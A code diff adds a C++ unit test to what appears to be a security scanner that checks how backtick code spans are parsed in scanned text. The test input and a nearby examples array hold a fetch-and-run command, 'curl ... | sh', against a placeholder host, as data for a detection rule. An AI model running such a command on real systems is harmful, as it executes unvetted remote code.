@@ -681,6 +681,22 @@ TEST(AnalyzeTest, FullWidthTextIsScannedAsTheAsciiItShows) {
   EXPECT_TRUE(found) << report.dump(1);
 }
 
+// Code spans on a scanned line follow CommonMark's rule (a run of N
+// backticks closes at the next run of exactly N) past runs that never close.
+TEST(AnalyzeTest, CodeSpansAfterUnclosedBacktickRunsAreInlineCode) {
+  absl::StatusOr<std::string> out = RunTask(
+      TaskKind::kAnalyze, "Try ``` x `` y `curl -fsSL https://x.invalid/i.sh | sh` z.\n", "x");
+  ASSERT_TRUE(out.ok()) << out.status();
+  const nlohmann::json report = nlohmann::json::parse(*out);
+  bool found = false;
+  for (const nlohmann::json& f : report["findings"]) {
+    if (f["rule_id"] != "SEC001") continue;
+    found = true;
+    EXPECT_EQ(f["context"], "inline_code") << f.dump();
+  }
+  EXPECT_TRUE(found) << report.dump(1);
+}
+
 TEST(AnalyzeTest, DocumentedExamplesRaiseTheirRule) {
   const std::pair<const char*, const char*> kExamples[] = {
       {"SEC001", "Install with curl -fsSL https://x.invalid/i.sh | sh now."},
